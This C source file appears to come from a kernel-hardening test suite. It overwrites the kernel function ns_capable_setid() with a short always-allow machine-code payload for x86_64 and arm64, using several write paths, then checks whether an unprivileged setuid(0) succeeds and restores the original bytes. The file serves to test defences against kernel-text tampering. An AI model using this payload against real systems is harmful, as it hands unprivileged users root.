// SPDX-License-Identifier: GPL-2.0-only
/*
 * The win of attacks that reach kernel text: ns_capable_setid() is patched to
 * say yes, and setuid(0) works for everybody.
 */
#include <signal.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#ifdef __x86_64__
/* endbr64; mov $1,%eax; ret */
static const unsigned char say_yes[] = {
	0xf3, 0x0f, 0x1e, 0xfa, 0xb8, 0x01, 0x00, 0x00, 0x00, 0xc3,
};
#else
/* bti c; mov w0,#1; ret */
static const unsigned int say_yes[] = { 0xd503245f, 0x52800020, 0xd65f03c0 };
#endif

uint64_t text_address(void)
{
	return ksymbol("ns_capable_setid");
}

uint64_t text_phys(void)
{
	struct slot slot;

	if (kwalk(text_address(), LEAF, 0, &slot))
		return 0;
	return slot.phys;
}

/*
 * Sealed credentials do not grow, whatever text says: who would have them grow is
 * killed. He has been let through as far as text goes, which is what is asked here.
 * No table of the attacker's is copied: some have entries that are forged.
 */
bool is_root_for_the_asking(void)
{
	int status = 0;
	pid_t pid = vfork();

	if (!pid)
		_exit(syscall(SYS_setuid, 0) || syscall(SYS_getuid));
	return pid > 0 && waitpid(pid, &status, 0) == pid &&
	       (!status || (WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL));
}

static enum outcome judge_root(int err)
{
	if (!is_root_for_the_asking())
		return lost("the store gave %d, setuid(0) was refused, uid=%d", err, getuid());
	return won("kernel text patched: it lets setuid(0) by uid=%d through", getuid());
}

enum outcome patch_text_by(bool (*store)(uint64_t addr, const void *data, size_t len))
{
	unsigned char saved[sizeof(say_yes)], now[sizeof(say_yes)] = "";
	enum outcome outcome;

	if (kread(text_address(), saved, sizeof(saved)))
		return broken("kernel text cannot be read");
	store(text_address(), say_yes, sizeof(say_yes));
	outcome = judge_root(0);
	kread(text_address(), now, sizeof(now));
	if (memcmp(now, saved, sizeof(saved)) &&
	    !store(text_address(), saved, sizeof(saved)))
		return broken("the text was not put back");
	return outcome;
}

/* kernel_alias: another, hopefully writable, address of text_address(). */
enum outcome patch_text_through(uint64_t kernel_alias)
{
	unsigned char saved[sizeof(say_yes)];
	enum outcome outcome;
	int err;

	if (kread(text_address(), saved, sizeof(saved)))
		return broken("kernel text cannot be read");
	err = kwrite(kernel_alias, say_yes, sizeof(say_yes));
	outcome = judge_root(err);
	if (!err)
		kwrite(kernel_alias, saved, sizeof(saved));
	return outcome;
}

enum outcome patch_text_in_user_mapping(char *code)
{
	unsigned char saved[sizeof(say_yes)];
	enum outcome outcome;

	memcpy(saved, code, sizeof(saved));
	memcpy(code, say_yes, sizeof(say_yes));
	outcome = judge_root(0);
	memcpy(code, saved, sizeof(saved));
	return outcome;
}
